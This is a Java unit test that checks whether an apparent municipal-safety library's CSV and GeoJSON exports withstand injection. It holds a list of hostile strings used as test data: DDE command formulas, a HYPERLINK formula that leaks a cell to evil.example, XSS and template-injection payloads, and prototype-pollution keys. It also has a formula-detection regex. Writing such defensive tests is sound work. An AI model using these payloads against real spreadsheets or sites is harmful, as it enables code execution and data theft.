package org.est4j.io;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;
import static org.quicktheories.QuickTheory.qt;
import static org.quicktheories.generators.SourceDSL.integers;
import static org.quicktheories.generators.SourceDSL.lists;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.time.LocalDateTime;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.TreeMap;
import java.util.regex.Pattern;
import org.est4j.core.ValidationException;
import org.est4j.core.area.Area;
import org.est4j.core.area.AreaHierarchy;
import org.est4j.core.area.AreaId;
import org.est4j.core.area.AreaLevel;
import org.est4j.core.mapping.ActorId;
import org.est4j.core.mapping.CategoryId;
import org.est4j.core.mapping.Observation;
import org.est4j.core.mapping.ObservationId;
import org.est4j.core.mapping.ReporterId;
import org.est4j.core.mapping.Severity;
import org.est4j.core.mapping.Source;
import org.est4j.core.mapping.Taxonomy;
import org.est4j.core.measure.Horizon;
import org.est4j.core.measure.Measure;
import org.est4j.core.measure.MeasureId;
import org.est4j.core.measure.MeasureType;
import org.est4j.core.picture.PictureCompiler;
import org.est4j.core.picture.PictureSet;
import org.est4j.core.store.ObservationStore;
import org.est4j.core.time.Period;
import org.est4j.io.csv.CsvExport;
import org.est4j.io.csv.CsvStyle;
import org.est4j.io.csv.Measures;
import org.est4j.io.csv.Observations;
import org.est4j.io.csv.PictureTable;
import org.est4j.io.geojson.AreaMap;
import org.est4j.io.geojson.GeoAreas;
import org.est4j.io.geojson.GeoJson;
import org.est4j.io.geojson.GeoJsonAreas;
import org.junit.jupiter.api.Test;

/**
 * Hostile text in every free-text field and name that reaches a CSV or GeoJSON export: spreadsheet formulas (as
 * OWASP lists them, also behind white space, full-width signs and line breaks), delimiters, quotes, line breaks,
 * markup and script, bidi overrides. In every CSV export (observations, measures, pictures; Swedish and English
 * Excel styles) no cell is a formula a spreadsheet would evaluate, and every row has the header's number of cells;
 * in GeoJSON the hostile property names and values come back as the same strings, in valid JSON, and nothing else.
 * The CSV is read back with a parser written here, apart from est4j's reader.
 */
class ExportInjectionTest {
    static final List<String> HOSTILE = List.of(
            "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://evil.example/?\"&A1,\"klicka\")", "+46 70 123 45 67",
            "-2+3", "-cmd|x", "@SUM(A1:A9)", "\t=1+1", "\r=1+1", " =1+1", "\u00a0=1+1", "\uFF1D1+1", "\uFF0B1",
            "\uFF0D1", "\uFF201", "ok\n=1+1", "ok\r\n@x", "a;b;c", "a,b,c", "\"quoted\" \"\"twice\"\"",
            "<script>alert(1)</script>", "</td></tr><img src=x onerror=alert(1)>", "{{7*7}} ${7*7} #{7*7}",
            "\u202Eevil\u202C", "a\u2028b\u2029c", "'=already", "DDE(\"cmd\";\"/C calc\";\"!A0\")");

    /** A cell a spreadsheet would take as a formula (numbers such as -3 or +0,5 are fine). */
    private static final Pattern FORMULA = Pattern.compile("^[\\s\\u00a0]*[=+\\-@\\t\\r\\uFF1D\\uFF0B\\uFF0D\\uFF20]");
    private static final Pattern NUMBER = Pattern.compile("^[+-]?[0-9]+([.,][0-9]+)?$");

    static String hostile(int i) {
        return HOSTILE.get(Math.floorMod(i, HOSTILE.size()));
    }

    @Test
    void noCsvExportHoldsAFormulaOrBreaksItsRowsWhateverTheText() {
        qt().withExamples(60).forAll(lists().of(integers().between(0, HOSTILE.size() - 1)).ofSize(6))
                .checkAssert(picks -> {
                    AreaHierarchy areas = hierarchy(hostile(picks.get(0)), hostile(picks.get(1)));
                    List<Observation> observations = observations(picks);
                    PictureSet pictures = PictureCompiler.builder(areas, Taxonomy.standard()).build()
                            .compile(ObservationStore.of(observations), Period.parse("2026-11"));
                    List<Measure> measures = List.of(measure(hostile(picks.get(4)), hostile(picks.get(5))));
                    for (CsvStyle style : List.of(CsvStyle.swedishExcel(), CsvStyle.englishExcel())) {
                        for (Object document : List.of(Observations.of(observations), Measures.of(measures),
                                PictureTable.of(pictures, areas), pictures)) {
                            String csv = csv(document, style);
                            List<List<String>> rows = parse(csv.substring(1), style.delimiter());
                            assertThat(rows).as("rows of %s", csv).hasSizeGreaterThan(1);
                            int width = rows.get(0).size();
                            for (List<String> row : rows) {
                                assertThat(row).as("a row of\n%s", csv).hasSize(width);
                                for (String cell : row) {
                                    assertThat(FORMULA.matcher(cell).find() && !NUMBER.matcher(cell).matches())
                                            .as("cell <%s> in\n%s", cell, csv).isFalse();
                                }
                            }
                        }
                    }
                });
    }

    @Test
    void theHostileTextsAreKeptAsDataNotDropped() {
        List<Observation> observations = observations(List.of(0, 1, 2, 3, 4, 5));
        String csv = csv(Observations.of(observations), CsvStyle.swedishExcel());
        List<List<String>> rows = parse(csv.substring(1), ';');
        int description = rows.get(0).indexOf("beskrivning");
        assertThat(rows.get(1).get(description)).isEqualTo("'" + hostile(2));
        assertThat(rows).hasSize(1 + observations.size());
    }

    @Test
    void hostilePropertyNamesAndValuesInGeoJsonComeBackAsTheSameStrings() throws IOException {
        StringBuilder features = new StringBuilder();
        Map<String, String> names = new TreeMap<>();
        for (int i = 0; i < HOSTILE.size(); i++) {
            String name = HOSTILE.get(i);
            names.put("a" + i, name);
            features.append(i == 0 ? "" : ",").append("{\"type\":\"Feature\",\"properties\":{\"id\":\"a").append(i)
                    .append("\",\"name\":").append(json(name)).append(",\"level\":\"omrade\"")
                    .append(",").append(json(name)).append(":").append(json(name))
                    .append(",\"__proto__\":{\"polluted\":true},\"constructor\":{\"prototype\":1},")
                    .append("\"<script>\":\"</script>\",\"\":\"\",\"a\\u0000b\":1}")
                    .append(",\"geometry\":{\"type\":\"Point\",\"coordinates\":[18.").append(i).append(",59.5]}}");
        }
        GeoAreas areas = GeoJsonAreas.read(org.est4j.core.spi.Source.of("hostile.geojson",
                ("{\"type\":\"FeatureCollection\",\"features\":[" + features + "]}").getBytes(StandardCharsets.UTF_8)));
        names.forEach((id, name) -> assertThat(areas.hierarchy().get(AreaId.of(id)).name())
                .isIn(name, name.replaceAll("[\\s\\p{Z}]+", " ").replaceAll("^ | $", "")));
        assertThatThrownBy(() -> GeoJsonAreas.read(org.est4j.core.spi.Source.of("level.geojson",
                ("{\"type\":\"FeatureCollection\",\"features\":[{\"type\":\"Feature\",\"properties\":{\"id\":\"a\","
                        + "\"name\":\"A\",\"level\":\"<script>\"},\"geometry\":null}]}").getBytes(StandardCharsets.UTF_8))))
                .isInstanceOf(ValidationException.class).hasMessageContaining("features[0].properties.level");
        String out = GeoJson.writeString(AreaMap.of(areas));
        JsonNode tree = new ObjectMapper().readTree(out);
        assertThat(tree.get("type").asText()).isEqualTo("FeatureCollection");
        assertThat(tree.get("features")).hasSize(HOSTILE.size());
        for (JsonNode feature : tree.get("features")) {
            JsonNode properties = feature.get("properties");
            String id = properties.get("id").asText();
            assertThat(properties.get("name").asText()).isEqualTo(areas.hierarchy().get(AreaId.of(id)).name());
            assertThat(properties.has("__proto__")).as("unknown properties are not copied").isFalse();
            assertThat(properties.has("<script>")).isFalse();
        }
        assertThat(out).doesNotContain("\u0000").doesNotContain("\u2028").doesNotContain("\u2029");
    }

    // ------------------------------------------------------------------------------------------------ inputs

    private static AreaHierarchy hierarchy(String localityName, String placeName) {
        AreaId root = AreaId.of("k");
        return AreaHierarchy.of(Area.of(root, "Kommunen", AreaLevel.MUNICIPALITY),
                Area.builder().id(AreaId.of("k/a")).name(localityName.isBlank() ? "x" : localityName)
                        .level(AreaLevel.LOCALITY).parent(root).build(),
                Area.builder().id(AreaId.of("k/a/p")).name(placeName.isBlank() ? "x" : placeName)
                        .level(AreaLevel.PLACE).parent(AreaId.of("k/a")).build());
    }

    private static List<Observation> observations(List<Integer> picks) {
        List<Observation> list = new ArrayList<>();
        for (int i = 0; i < 4; i++) {
            String text = hostile(picks.get(2) + i);
            list.add(Observation.builder().id(ObservationId.of("o-" + i)).source(Source.REPORTER)
                    .reporter(ReporterId.of("r-1")).area(AreaId.of(i % 2 == 0 ? "k/a" : "k/a/p"))
                    .placeName(hostile(picks.get(3) + i).strip().isEmpty() ? "x" : hostile(picks.get(3) + i).strip())
                    .channel("app " + text.strip()).occurredAtLocal(LocalDateTime.of(2026, 11, 3 + i, 21, 40))
                    .category(CategoryId.of("property-damage.graffiti")).severity(Severity.of(1 + i))
                    .description(text).build());
        }
        return list;
    }

    private static Measure measure(String title, String other) {
        return Measure.builder().id(MeasureId.of("2026-047")).title(title.isBlank() ? "x" : title)
                .type(MeasureType.LIGHTING).leadActor(ActorId.of("kommunen")).addTargetAreas(AreaId.of("k/a"))
                .start(LocalDate.of(2026, 11, 1)).horizon(Horizon.SHORT).description(other)
                .followUpEvery(java.time.Period.ofWeeks(2)).build();
    }

    // ------------------------------------------------------------------------------------------------ helpers

    private static String csv(Object document, CsvStyle style) {
        ByteArrayOutputStream out = new ByteArrayOutputStream();
        try {
            CsvExport.write(document, out, style);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
        return out.toString(StandardCharsets.UTF_8);
    }

    private static String json(String s) {
        try {
            return new ObjectMapper().writeValueAsString(s);
        } catch (IOException e) {
            throw new UncheckedIOException(e);
        }
    }

    /** RFC 4180, as a spreadsheet reads it: quoted cells may hold delimiters, quotes ("") and line breaks. */
    static List<List<String>> parse(String text, char delimiter) {
        List<List<String>> rows = new ArrayList<>();
        List<String> row = new ArrayList<>();
        StringBuilder cell = new StringBuilder();
        boolean quoted = false;
        for (int i = 0; i < text.length(); i++) {
            char c = text.charAt(i);
            if (quoted) {
                if (c == '"' && i + 1 < text.length() && text.charAt(i + 1) == '"') {
                    cell.append('"');
                    i++;
                } else if (c == '"') {
                    quoted = false;
                } else {
                    cell.append(c);
                }
            } else if (c == '"' && cell.length() == 0) {
                quoted = true;
            } else if (c == delimiter) {
                row.add(cell.toString());
                cell.setLength(0);
            } else if (c == '\r' || c == '\n') {
                // a spreadsheet ends the row at any unquoted line break
                row.add(cell.toString());
                cell.setLength(0);
                rows.add(row);
                row = new ArrayList<>();
                if (c == '\r' && i + 1 < text.length() && text.charAt(i + 1) == '\n') {
                    i++;
                }
            } else {
                cell.append(c);
            }
        }
        assertThat(quoted).as("an unterminated quote").isFalse();
        if (cell.length() > 0 || !row.isEmpty()) {
            row.add(cell.toString());
            rows.add(row);
        }
        return rows;
    }
}
